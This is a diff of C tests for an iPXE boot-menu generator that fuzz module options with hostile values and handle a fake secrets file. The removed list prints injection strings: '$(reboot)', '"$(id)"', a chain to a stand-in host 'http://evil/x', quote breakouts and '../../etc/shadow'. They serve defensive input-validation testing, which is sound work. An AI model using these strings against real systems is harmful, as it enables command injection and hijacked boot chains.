@@ -3,6 +3,7 @@
 #include "se3ipxe.h"
 #include "extern.h"
 #include "tap.h"
+#include "hostile.h"
 
 #include <errno.h>
 
@@ -52,22 +53,21 @@ static const struct {
 	{ "disk", { "auto", "sda", "nvme0n1", NULL } },
 	{ "parts", { "all", "sda1", "sda1,sda2,sda5", NULL } },
 	{ "repo", { "//se3.lan/partimag/salle-12", "sdb1", NULL, NULL } },
+	{ "share_user", { "adminse3", "sauvegarde", "prof_1@se3.lan", NULL } },
 };
 
-/* Each of these would run a command, split a line or a word, quote, comment or expand. */
-static const char *const hostile_cores[] = {
-	" ", "\t", "\n", "\r", "\r\n", "\v", "\f", "\\", "${", "$", "{", "}",
-	"#", "&&", "||", "&", "|", ";", "\"", "'", "`", "<", ">", "(", ")",
-	"*", "?", "!", "[", "]", "^", "\x7f", "\x01", "\x1b[2J", "\xc3\xa9",
-	"\xef\xbb\xbf", "\xff", "${net0/mac}", "$(reboot)", "x || shell",
-	" && chain http://evil/x", "\nshell\n", "a\\", "#!ipxe", "\n:label",
-	"'; reboot; '", "\"$(id)\"", "$IFS", "../../etc/shadow", "\n- x: y",
-	"{{token}}", "a: b", "- a", "!!python/object", "*anchor", "&anchor",
-	"%00",
+/* Beyond hostile.h's wrappers: the forms these options take, so that a value passes their patterns' start. */
+static const char *const rescue_wrappers[][2] = {
+	{ "sda1", "" }, { "auto", "" }, { "//se3/images/", "" },
 };
-static const char *const hostile_wrappers[][2] = {
-	{ "", "" }, { "a", "" }, { "", "a" }, { "sda1", "" }, { "auto", "" },
-	{ "//se3/images/", "" },
+#define NWRAPPERS	(sizeof(hostile_wrappers) / sizeof(hostile_wrappers[0]))
+#define NALLWRAPPERS	(NWRAPPERS + sizeof(rescue_wrappers) / sizeof(rescue_wrappers[0]))
+#define NHOSTILE	(sizeof(hostile_cores) / sizeof(hostile_cores[0]))
+#define NCORES		(NHOSTILE + sizeof(hostile_pattern_only) / sizeof(hostile_pattern_only[0]))
+
+/* The secrets file of these tests: a secret option's value is the NAME of one. */
+static const struct sip_kv fake_secrets[] = {
+	{ UNCONST("smb_password"), UNCONST("S3cr3t p@ss w\xc3\xb6rd $1") },
 };
 
 static int
@@ -103,6 +103,12 @@ option_values(const struct sip_option *o, const char *vals[16], char ints[3][24]
 	case SIP_OPT_BOOLEAN:
 		vals[n++] = "yes";
 		vals[n++] = "no";
+		break;
+	case SIP_OPT_SECRET:
+		/* Empty (optional: none), or the name of a secret. */
+		if (o->def != NULL && o->def[0] == '\0')
+			vals[n++] = o->def;
+		vals[n++] = fake_secrets[0].key;
 		break;
 	case SIP_OPT_INTEGER:
 		snprintf(ints[0], 24, "%lld", (long long)o->min);
@@ -147,9 +153,10 @@ render_all(const struct sip_module *m, const struct sip_capability *c,
     long which, const char *value, struct sip_buf pages[1 + SIP_FILES_MAX],
     struct sip_err *err)
 {
-	struct sip_kv kv[NBUILTINS + 64];
+	struct sip_kv kv[NBUILTINS + 64], skv[8];
 	char module_url[128], action[160];
-	size_t n = 0, i;
+	const char *v;
+	size_t n = 0, nsec = 0, i, j;
 	enum sip_rc rc;
 
 	snprintf(module_url, sizeof(module_url), "http://se3.lan/se3-ipxe/%s", m->name);
@@ -172,8 +179,23 @@ render_all(const struct sip_module *m, const struct sip_capability *c,
 		sip_buf_init(&pages[i]);
 	if ((rc = sip_template_render(c->tmpl, kv, n, &pages[0], err)) != SIP_OK)
 		return rc;
+	/* A file declared secret gets the secrets' values, as ipxe.cgi reads them when it serves it. */
+	for (i = 0; i < c->noptions && nsec < sizeof(skv) / sizeof(skv[0]); i++) {
+		if (c->options[i].type != SIP_OPT_SECRET)
+			continue;
+		v = (long)i == which ? value : base_value(&c->options[i]);
+		skv[nsec].key = UNCONST(c->options[i].name);
+		skv[nsec].value = v != NULL && v[0] == '\0' ? UNCONST("") : NULL;
+		for (j = 0; v != NULL && j < sizeof(fake_secrets) / sizeof(fake_secrets[0]); j++)
+			if (strcmp(v, fake_secrets[j].key) == 0)
+				skv[nsec].value = fake_secrets[j].value;
+		nsec++;
+	}
 	for (i = 0; i < c->nfiles; i++)
-		if ((rc = sip_template_render(c->file_tmpls[i], kv, n, &pages[1 + i],
+		if ((rc = c->file_secret[i] ?
+		    sip_template_render_secret(c->file_tmpls[i], kv, n, skv, nsec,
+		    &pages[1 + i], err) :
+		    sip_template_render(c->file_tmpls[i], kv, n, &pages[1 + i],
 		    err)) != SIP_OK)
 			return rc;
 	return SIP_OK;
@@ -348,10 +370,13 @@ check_hostile(const struct sip_module *m, const struct sip_capability *c,
 	size_t i, j, k, nres, refused = 0, tried = 0, forced = 0, leaked = 0;
 
 	for (i = 0; i < c->noptions; i++) {
-		for (j = 0; j < sizeof(hostile_cores) / sizeof(hostile_cores[0]); j++) {
-			for (k = 0; k < sizeof(hostile_wrappers) / sizeof(hostile_wrappers[0]); k++) {
-				snprintf(value, sizeof(value), "%s%s%s", hostile_wrappers[k][0],
-				    hostile_cores[j], hostile_wrappers[k][1]);
+		for (j = 0; j < NCORES; j++) {
+			for (k = 0; k < NALLWRAPPERS; k++) {
+				const char *const *w = k < NWRAPPERS ? hostile_wrappers[k] :
+				    rescue_wrappers[k - NWRAPPERS];
+
+				snprintf(value, sizeof(value), "%s%s%s", w[0], j < NHOSTILE ?
+				    hostile_cores[j] : hostile_pattern_only[j - NHOSTILE], w[1]);
 				tried++;
 				snprintf(assign, sizeof(assign), "%s=%s", c->options[i].name, value);
 				assigns[0] = assign;
